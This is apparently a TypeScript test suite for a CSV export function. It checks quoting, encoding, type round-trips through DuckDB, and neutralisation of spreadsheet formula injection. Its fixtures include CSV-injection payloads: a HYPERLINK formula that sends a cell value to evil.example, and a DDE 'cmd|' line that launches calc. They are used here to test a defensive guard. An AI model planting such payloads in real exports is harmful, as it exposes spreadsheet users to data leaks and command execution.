import { DuckDBInstance, type DuckDBConnection } from '@duckdb/node-api';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, tableToCsv, tableToCsvBytes } from '../../src/workbook';
import { pathLiteral } from '../helpers/native';
import { wasmArrowDb, type WasmArrowDb } from '../helpers/wasm-arrow';

// Text cells, each a case: formula starts, quoting, line breaks, unicode, £, and things that must stay as they are.
const TEXTS: (string | null)[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=1+1',
  '+44 20 7946 0000',
  '-5',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A9)',
  '\tstarts with a tab',
  '\rstarts with a CR',
  'say "hello", then go',
  'a,b,c',
  'line one\nline two',
  'windows\r\nline break',
  '£1,234.56 seized',
  'Ynys Môn — Heddlu Gogledd Cymru 🚓',
  '',
  null,
  "'already apostrophed",
  ' leading space',
  'Kent',
];

const lit = (s: string | null) => (s === null ? 'NULL' : `'${s.replaceAll("'", "''")}'`);
// Builds rows in SQL; chr() for the control characters so no literal tab/CR hides in the SQL text.
const sqlText = (s: string | null) => (s === null ? 'NULL' : s.split(/(\t|\r|\n)/).map((p) => (p === '\t' ? 'chr(9)' : p === '\r' ? 'chr(13)' : p === '\n' ? 'chr(10)' : lit(p))).filter((p) => p !== "''").join(' || ') || "''");

const ROWS_SQL = `SELECT * FROM (VALUES ${TEXTS.map((t, i) => {
  const n = [-5, 0, 12, null, 9007199254740993n][i % 5];
  const x = [0.1 + 0.2, -1e-7, 1234567.891, null][i % 4];
  const d = ["DATE '2023-04-01'", "DATE '1999-12-31'", 'NULL'][i % 3];
  const ts = ["TIMESTAMP '2024-03-31 23:59:59.123456'", "TIMESTAMP '2020-01-01 00:00:00'", 'NULL'][i % 3];
  const dec = ['-12.34', '0.05', '1234567.89', 'NULL'][i % 4];
  const b = ['true', 'false', 'NULL'][i % 3];
  return `(${i}, ${sqlText(t)}, ${n === null ? 'NULL' : `${n}::BIGINT`}, ${x === null ? 'NULL' : `${x}::DOUBLE`}, ${d}, ${ts}, ${dec}::DECIMAL(12,2), ${b})`;
}).join(', ')}) AS t(id, "label", n, x, d, ts, "£ amount", flag) ORDER BY id`;

let wasm: WasmArrowDb;
let conn: DuckDBConnection;
let dir: string;

beforeAll(async () => {
  wasm = await wasmArrowDb();
  conn = await (await DuckDBInstance.create(':memory:')).connect();
  dir = mkdtempSync(join(tmpdir(), 'csv-export-'));
}, 60_000);
afterAll(() => {
  wasm?.close();
  conn?.closeSync();
  if (dir) rmSync(dir, { recursive: true });
});

async function rows(sql: string): Promise<Record<string, unknown>[]> {
  const reader = await conn.runAndReadAll(sql);
  const names = reader.columnNames();
  return reader.getRowsJS().map((r) => Object.fromEntries(r.map((v, i) => [names[i], v])));
}

function writeCsv(name: string, bytes: Uint8Array): string {
  const file = join(dir, name);
  writeFileSync(file, bytes);
  return pathLiteral(file);
}

describe('CSV export of a DuckDB-WASM Arrow result', () => {
  it('bytes: UTF-8 BOM first, CRLF after every row, RFC 4180 quoting', () => {
    const bytes = tableToCsvBytes(wasm.table(`SELECT 'a,b' AS "x", 'say "hi"' AS y, NULL::VARCHAR AS z, '' AS e, 'two\nlines' AS l, 'café £' AS u`));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(3))).toBe('x,y,z,e,l,u\r\n"a,b","say ""hi""",,"","two\nlines",café £\r\n');
  });

  it('numbers unformatted and numeric, dates ISO, NULL empty; formula-like text prefixed', () => {
    const csv = tableToCsv(wasm.table(`SELECT -5::BIGINT AS n, -1234567.5::DOUBLE AS x, -12.34::DECIMAL(10,2) AS d, SUM(x)::HUGEINT AS h, DATE '2023-04-01' AS day, '-5' AS t, NULL::DOUBLE AS nothing FROM (VALUES (-170141183460469231731687303715884105727::HUGEINT)) v(x)`), { bom: false });
    expect(csv).toBe("n,x,d,h,day,t,nothing\r\n-5,-1234567.5,-12.34,-170141183460469231731687303715884105727,2023-04-01,'-5,\r\n");
  });

  it('ENUM (an Arrow dictionary) and LIST columns are text: neutralised and quoted like text', () => {
    wasm.table(`CREATE TYPE level_enum AS ENUM ('=major', 'minor')`);
    const csv = tableToCsv(wasm.table(`SELECT '=major'::level_enum AS level, ['-1', 'a,b'] AS parts UNION ALL SELECT 'minor'::level_enum, NULL`), { bom: false });
    expect(csv).toBe(`level,parts\r\n'=major,"[""-1"", ""a,b""]"\r\nminor,\r\n`);
  });

  it('suppressed cells (protected small numbers) are written as [c], counted across record batches', () => {
    const a = wasm.table(`SELECT * FROM (VALUES ('Kent', 3::BIGINT, 0.15::DOUBLE), ('Essex', 12, 0.4)) t(force, "value", rate)`);
    const b = wasm.table(`SELECT * FROM (VALUES ('Surrey', 2::BIGINT, 0.1::DOUBLE)) t(force, "value", rate)`);
    const two = a.concat(b);
    expect(two.batches).toHaveLength(2);
    const suppressed = new Set(['0:value', '0:rate', '2:value']);
    expect(tableToCsv(two, { bom: false, suppressed })).toBe('force,value,rate\r\nKent,[c],[c]\r\nEssex,12,0.4\r\nSurrey,[c],0.1\r\n');
    // Without the set, as before.
    expect(tableToCsv(two, { bom: false })).toContain('Kent,3,0.15');
  });

  it('a header that looks like a formula is neutralised too', () => {
    expect(tableToCsv(wasm.table(`SELECT 1 AS "=cmd"`), { bom: false })).toBe("'=cmd\r\n1\r\n");
  });

  it('neutraliseFormula and csvField, case by case', () => {
    expect(['=1', '+1', '-1', '@a', '\tx', '\rx', 'x=1', ' =1', '', "'=1"].map(neutraliseFormula)).toEqual(["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", 'x=1', ' =1', '', "'=1"]);
    expect(['plain', 'a"b', 'a,b', 'a\nb', 'a\rb', ''].map(csvField)).toEqual(['plain', '"a""b"', '"a,b"', '"a\nb"', '"a\rb"', '""']);
  });

  it('native DuckDB reads the CSV back to the original values, the neutralising prefix accounted for', async () => {
    const table = wasm.table(ROWS_SQL);
    expect(table.numRows).toBe(TEXTS.length);
    const file = writeCsv('result.csv', tableToCsvBytes(table));
    const types = `{'id': 'INTEGER', 'label': 'VARCHAR', 'n': 'BIGINT', 'x': 'DOUBLE', 'd': 'DATE', 'ts': 'TIMESTAMP', '£ amount': 'DECIMAL(12,2)', 'flag': 'BOOLEAN'}`;
    // allow_quoted_nulls = false: DuckDB otherwise reads the quoted empty text "" as NULL; the file tells them apart.
    const back = await rows(`SELECT * FROM read_csv(${file}, header = true, columns = ${types}, allow_quoted_nulls = false) ORDER BY id`);
    const original = await rows(ROWS_SQL);
    // What the export promises, written out here: text that starts like a formula gains one leading apostrophe.
    const expected = original.map((r) => ({ ...r, label: typeof r.label === 'string' && /^[=+\-@\t\r]/.test(r.label) ? `'${r.label}` : r.label }));
    expect(back).toEqual(expected);
    // And every text case is where the test put it (independent of DuckDB's reading of its own VALUES).
    expect(back.map((r) => r.label)).toEqual(TEXTS.map((t) => (t !== null && /^[=+\-@\t\r]/.test(t) ? `'${t}` : t)));
  });

  it("DuckDB's sniffer, given no types, still sees number columns as numbers and dates as dates", async () => {
    const file = writeCsv('sniffed.csv', tableToCsvBytes(wasm.table(ROWS_SQL)));
    const described = await rows(`DESCRIBE SELECT * FROM read_csv_auto(${file})`);
    expect(Object.fromEntries(described.map((r) => [r.column_name, r.column_type]))).toMatchObject({
      id: 'BIGINT',
      label: 'VARCHAR',
      n: 'BIGINT',
      x: 'DOUBLE',
      d: 'DATE',
      ts: 'TIMESTAMP',
      flag: 'BOOLEAN',
    });
  });

  it('a sample-sized result exports in reasonable time and re-reads with the same sums', async () => {
    const sql = `SELECT i, 'force ' || (i % 43) AS force, (i * 7919) % 1000 - 500 AS delta, i / 3.0 AS third FROM range(200000) r(i)`;
    const t0 = performance.now();
    const bytes = tableToCsvBytes(wasm.table(sql));
    const ms = performance.now() - t0;
    expect(ms).toBeLessThan(5000);
    const file = writeCsv('big.csv', bytes);
    const agg = `SELECT count(*)::INT AS n, sum(delta)::BIGINT AS d, round(sum(third), 6) AS t, count(DISTINCT force)::INT AS f`;
    expect(await rows(`${agg} FROM read_csv_auto(${file})`)).toEqual(await rows(`${agg} FROM (${sql})`));
  });
});

// Issue 17 item 2: formula text stored as bytes (a BLOB, or a Parquet column without a string annotation) reaches the
// spreadsheet as text too, so it is neutralised like text. Only numbers are written as they are.
describe('issue 17: every cell that is not a number goes through the formula guard', () => {
  it('BLOB cells starting like a formula are prefixed; other bytes keep DuckDB\'s \\x escapes', () => {
    const csv = tableToCsv(wasm.table(`SELECT '=HYPERLINK("http://x")'::BLOB AS b, '@SUM(A1)'::BLOB AS b2, '-5'::BLOB AS b3, '+1'::BLOB AS b4, 'plain'::BLOB AS b5, '\\x09=1'::BLOB AS b6`), { bom: false });
    expect(csv).toBe(`b,b2,b3,b4,b5,b6\r\n"'=HYPERLINK(""http://x"")",'@SUM(A1),'-5,'+1,plain,\\x09=1\r\n`);
  });

  it('a Parquet column of bytes without a string annotation (as other tools write text) is neutralised', async () => {
    const file = join(dir, 'bytes.parquet');
    await conn.run(`COPY (SELECT * FROM (VALUES ('=cmd|'' /C calc''!A0'::BLOB, 1), ('-2+3'::BLOB, 2), ('Kent'::BLOB, 3)) v(c, i)) TO ${pathLiteral(file)} (FORMAT PARQUET)`);
    const table = wasm.table(`SELECT c FROM read_parquet(${pathLiteral(file)}) ORDER BY i`);
    expect(String(table.schema.fields[0].type)).toBe('Binary');
    expect(tableToCsv(table, { bom: false })).toBe(`c\r\n'=cmd|' /C calc'!A0\r\n'-2+3\r\nKent\r\n`);
  });

  it('a negative INTERVAL is text to a spreadsheet and is prefixed; numbers of every kind are not', () => {
    const csv = tableToCsv(wasm.table(`SELECT INTERVAL '-1 day' AS gap, -1::TINYINT AS i8, -2::INTEGER AS i32, -3::HUGEINT AS h, -4.5::FLOAT AS f, -6.25::DECIMAL(5,2) AS d`), { bom: false });
    expect(csv).toBe(`gap,i8,i32,h,f,d\r\n'-1 day,-1,-2,-3,-4.5,-6.25\r\n`);
  });

  it('neutralising can still be turned off: the bytes are written as DuckDB prints them', () => {
    expect(tableToCsv(wasm.table(`SELECT '@SUM(A1)'::BLOB AS b`), { bom: false, neutralise: false })).toBe('b\r\n@SUM(A1)\r\n');
  });
});
